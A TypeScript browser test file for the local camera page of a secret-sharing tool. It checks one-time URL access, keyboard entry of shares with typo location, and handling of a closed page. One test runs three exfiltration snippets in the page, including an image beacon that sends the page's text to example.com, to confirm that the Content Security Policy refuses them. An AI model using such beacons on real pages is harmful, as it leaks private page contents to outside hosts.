/** The page in real Chromium: who gets in, what it may not do, typing without a camera. */
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { openBrowser, PAGE_URL, start, type Shown, type Started } from '../stage/at-camera.js'
import { film } from '../stage/fake-camera.js'
import { rehearsal, type Rehearsal } from '../stage/rehearsal.js'

let stage: Rehearsal
const open: Shown[] = []

beforeAll(async () => {
  stage = await rehearsal()
})

afterEach(async () => {
  for (const { browser } of open.splice(0)) await browser.close()
})

afterAll(() => stage.close())

async function browser(filmed: string | null): Promise<Shown> {
  const shown = await openBrowser(filmed)
  open.push(shown)
  return shown
}

function inspect(...more: string[]): Started {
  return start(['share', 'inspect', '--scan', 'camera', '--browser', 'any', '--rehearsal', '--json', ...more], stage.directory)
}

test('one token, one page: a wrong address, a second browser and other addresses get nothing; a reload goes on', async () => {
  const camera = join(stage.directory, 'one.y4m')
  await film(camera, [[{ pdf: stage.sheet(2, 2), turned: 180, blurred: 1 }]])
  const command = inspect('--custody', stage.custody)
  const url = await command.until(PAGE_URL)

  const thief = await browser(null)
  await thief.page.goto(url.slice(0, -1))
  await thief.page.getByText('Refused: the address is not complete: open it exactly as the terminal shows it.').waitFor()
  const named = await thief.page.goto(url.replace('127.0.0.1', 'localhost'))
  expect(named?.status()).toBe(403)

  const { page, asked, complaints } = await browser(camera)
  await page.goto(url)
  expect(page.url()).toBe(new URL('/', url).href)
  await page.getByText('Share 2 of 3, key id').waitFor()
  await thief.page.goto(url)
  await thief.page.getByText('Refused: the page is open in another window or browser already: it can be opened once.').waitFor()

  await page.reload()
  await page.getByText('Share 2 of 3, key id').waitFor()
  expect(complaints).toEqual([])
  expect(asked.filter((address) => !address.startsWith(new URL('/', url).href))).toEqual([])
  // What the page's own code can no longer do, whoever wrote it.
  for (const attempt of ["fetch('https://example.com/')", "new Promise((done, no) => { const image = new Image(); image.onload = done; image.onerror = no; image.src = 'https://example.com/?' + document.body.innerText })", "new Promise((done, no) => { const socket = new WebSocket('wss://example.com/'); socket.onopen = done; socket.onerror = no })"]) {
    await expect(page.evaluate(`${attempt}.then(() => 'went out', () => 'refused')`), attempt).resolves.toBe('refused')
  }
  const refusals = complaints.filter((complaint) => complaint.includes('Content Security Policy'))
  for (const directive of ['connect-src', 'img-src']) expect(refusals.join('\n')).toContain(directive)
  for (const address of ['https://example.com/', 'wss://example.com/']) expect(refusals.join('\n')).toContain(address)

  await page.getByRole('button', { name: 'There are no more sheets' }).click()
  await page.getByText('No more sheets. Look at the terminal.').waitFor()
  const { code, stdout } = await command.ended
  expect(code).toBe(0)
  expect(JSON.parse(stdout)).toMatchObject({ shares: [{ custodian: 2, generation: 2, rehearsal: true, promised: true }] })
})

test('without a camera the page says so, and a share is typed with the keyboard alone; a slip is located', async () => {
  const command = inspect()
  const { page, complaints } = await browser(null)
  await page.goto(await command.until(PAGE_URL))
  await page.getByText('No camera was found. Plug one in and try again, or type the share.').waitFor()
  const text = (await stage.shareText(2, 1)).replace(/(.{4})/g, '$1 ')
  const slip = text[35] === 'Q' ? 'P' : 'Q'
  await page.keyboard.type(text.slice(0, 35) + slip + text.slice(36))
  await page.keyboard.press('Enter')
  await page.getByText('Misread: group 8 looks wrong. Compare with the paper group by group').waitFor()
  await page.keyboard.press('Control+A')
  await page.keyboard.type(text.toLowerCase())
  await page.keyboard.press('Enter')
  await page.getByText('Share 1 of 3, key id').waitFor()
  await page.keyboard.press('Tab')
  await page.keyboard.press('Tab')
  await page.keyboard.press('Enter')
  const { code, stdout } = await command.ended
  expect(code).toBe(0)
  expect(JSON.parse(stdout)).toMatchObject({ shares: [{ custodian: 1, threshold: 2 }] })
  expect(complaints).toEqual([])
})

test('a page that is closed and does not come back is not waited for', async () => {
  const command = inspect()
  const { page, browser: closing } = await browser(null)
  await page.goto(await command.until(PAGE_URL))
  await page.getByText('Show the sheets that you have.').waitFor()
  await closing.close()
  const { code, stderr } = await command.ended
  expect(stderr).toContain('The camera: the page was closed.')
  expect(code).toBe(5)
})
